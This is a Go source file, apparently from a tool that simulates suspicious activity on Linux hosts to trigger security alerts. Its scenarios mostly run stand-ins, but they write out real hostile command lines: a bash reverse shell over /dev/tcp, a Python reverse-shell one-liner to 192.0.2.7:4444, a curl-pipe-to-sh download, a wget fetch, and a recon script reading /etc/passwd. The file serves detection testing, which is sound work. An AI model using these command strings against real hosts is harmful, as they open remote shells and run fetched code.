package simulate

import (
	"context"
	"errors"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"time"
)

// command returns the play of a scenario that runs a program of the PATH.
func command(program string, args ...string) func(context.Context, *Stage) error {
	return func(ctx context.Context, s *Stage) error { return s.Exec(ctx, program, s.fill(args)...) }
}

var testAlert = Scenario{
	Name:      "test-alert",
	Title:     "the agreed test command",
	AlertType: "VM_EICAR",
	Summary:   "Runs a copy of echo(1) under the agreed name and with the agreed words.",
	Run: func(ctx context.Context, s *Stage) error {
		path, err := s.Copy("echo", s.Path("asc_alerttest_662jfi039n"))
		if err != nil {
			return err
		}
		return s.Exec(ctx, path, "testing", "eicar", "pipe")
	},
}

var webShell = Scenario{
	Name:      "web-shell",
	Title:     "a web server starts a shell",
	AlertType: "VM_Webshell",
	Summary:   "A copy of the shell named nginx starts a shell that runs id. Nothing listens, nothing is served.",
	Run: func(ctx context.Context, s *Stage) error {
		path, err := s.Copy("sh", s.Path("nginx"))
		if err != nil {
			return err
		}
		return s.Exec(ctx, path, "-c", `sh -c "id; true"; true`)
	},
}

var reverseShell = Scenario{
	Name:      "reverse-shell",
	Title:     "a shell is handed to the network",
	AlertType: "VM_ReverseShell",
	Summary: "A shell whose input and output are a connection to this program on 127.0.0.1. It is told to exit " +
		"at once; nobody else can reach it.",
	Needs: []Need{NeedProgram("bash")},
	Run:   playReverseShell,
}

func playReverseShell(ctx context.Context, s *Stage) error {
	listener, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		return fmt.Errorf("listen for the shell: %w", err)
	}
	s.Cleanup("close the listener", func() error {
		if err := listener.Close(); !errors.Is(err, net.ErrClosed) {
			return err
		}
		return nil
	})
	go answerExit(listener)
	port := listener.Addr().(*net.TCPAddr).Port
	text := fmt.Sprintf("bash --norc -i >& /dev/tcp/127.0.0.1/%d 0>&1", port)
	return s.ExecDetached(ctx, "bash", "--norc", "-c", text, s.Token)
}

// answerExit tells the first who calls to exit and hangs up.
func answerExit(listener net.Listener) {
	defer listener.Close()
	conn, err := listener.Accept()
	if err != nil {
		return // the stage was cleaned up
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(5 * time.Second))
	if _, err := conn.Write([]byte("exit\n")); err != nil {
		return // the shell is gone, which is what we want of it
	}
	// Until the shell hangs up: so that it reads the line before the end.
	_, _ = conn.Read(make([]byte, 4096))
}

var reverseShellText = Scenario{
	Name:      "reverse-shell-python",
	Title:     "a reverse shell as a line of Python",
	AlertType: "VM_ReverseShell",
	Summary:   "Runs a program named python3 with the text of a reverse shell as its argument. " + harmless,
	Run: standIn("python3", "-c", `import socket,os,pty;s=socket.socket();s.connect(("192.0.2.7",4444));`+
		`[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")`, "{token}"),
}

var reconnaissanceScript = Scenario{
	Name:      "reconnaissance-script",
	Title:     "an enumeration script is started",
	AlertType: "VM_LinuxReconnaissance",
	Summary:   "Runs an empty script named linpeas.sh.",
	Run: func(ctx context.Context, s *Stage) error {
		path, err := s.Write("linpeas.sh", "#!/bin/sh\ntrue\n")
		if err != nil {
			return err
		}
		return s.Exec(ctx, "sh", path)
	},
}

var reconnaissanceBurst = Scenario{
	Name:      "reconnaissance-burst",
	Title:     "somebody looks around within seconds",
	AlertType: "VM_LinuxReconnaissance",
	Summary:   "A script without a terminal runs id, whoami, uname and other commands that only read.",
	Run: func(ctx context.Context, s *Stage) error {
		path, err := s.Write("look.sh", "#!/bin/sh\nid\nwhoami\nuname -a\nhostname\nnproc\ncat /etc/passwd\ncat /proc/version\ndf -h\nps aux\nuptime\nwho\n")
		if err != nil {
			return err
		}
		return s.ExecDetached(ctx, path)
	},
}

var downloadAndRun = Scenario{
	Name:      "download-and-run",
	Title:     "a download is piped into a shell",
	AlertType: "VM_DownloadAndRunCombo",
	Summary:   "A shell pipes the output of a program named curl into another shell. " + harmless,
	Run: func(ctx context.Context, s *Stage) error {
		curl, err := s.StandIn("curl")
		if err != nil {
			return err
		}
		return s.Shell(ctx, curl+" -fsSL http://192.0.2.7/"+s.Token+".sh | sh")
	},
}

var downloadedProgram = Scenario{
	Name:      "downloaded-program",
	Title:     "a downloaded program is run",
	AlertType: "VM_LinuxBackdoorArtifact",
	Summary:   "A program named curl is told to fetch a file; then a copy of true(1) is run under the file's name.",
	Run: func(ctx context.Context, s *Stage) error {
		curl, err := s.StandIn("curl")
		if err != nil {
			return err
		}
		target := s.Path("updater")
		if err := s.Exec(ctx, curl, "-s", "-o", target, "http://192.0.2.7/"+s.Token); err != nil {
			return err
		}
		if _, err := s.StandIn("updater"); err != nil {
			return err
		}
		return s.Exec(ctx, target)
	},
}

var downloadedScript = Scenario{
	Name:      "downloaded-script",
	Title:     "a downloaded script is run",
	AlertType: "VM_LinuxBackdoorArtifact",
	Summary:   "A program named wget is told to fetch a script; then an empty script is run under its name.",
	Run: func(ctx context.Context, s *Stage) error {
		wget, err := s.StandIn("wget")
		if err != nil {
			return err
		}
		if err := s.Exec(ctx, wget, "-q", "-O", s.Path("setup.sh"), "http://192.0.2.7/"+s.Token); err != nil {
			return err
		}
		path, err := s.Write("setup.sh", "#!/bin/sh\ntrue\n")
		if err != nil {
			return err
		}
		return s.Exec(ctx, "sh", path)
	},
}

var hiddenFile = Scenario{
	Name:      "hidden-file",
	Title:     "a hidden file is run",
	AlertType: "VM_ExecuteHiddenFile",
	Summary:   "Runs a copy of true(1) whose name starts with a dot.",
	Run:       standIn(".cache-update", "{token}"),
}

var sharedMemoryProgram = Scenario{
	Name:      "shared-memory-program",
	Title:     "a program is run from shared memory",
	AlertType: "VM_SuspectExecutablePath",
	Summary:   "Runs a copy of true(1) from a directory below /dev/shm.",
	Run: func(ctx context.Context, s *Stage) error {
		dir := filepath.Join("/dev/shm", s.Token)
		if err := s.MakeDir(dir); err != nil {
			return skip("cannot write to /dev/shm: %v", err)
		}
		path, err := s.Copy("true", filepath.Join(dir, "kworker"))
		if err != nil {
			return err
		}
		err = s.Exec(ctx, path)
		if errors.Is(err, os.ErrPermission) {
			return skip("/dev/shm is mounted noexec")
		}
		return err
	},
}

var nohupTemporary = Scenario{
	Name:      "nohup-temporary",
	Title:     "a program below /tmp is kept running",
	AlertType: "VM_SuspectNohup",
	Summary:   "Runs nohup(1) with a copy of true(1) below /tmp, which ends at once.",
	Needs:     []Need{NeedProgram("nohup")},
	Run: func(ctx context.Context, s *Stage) error {
		path, err := s.StandIn("agent")
		if err != nil {
			return err
		}
		return s.Exec(ctx, "nohup", path)
	},
}
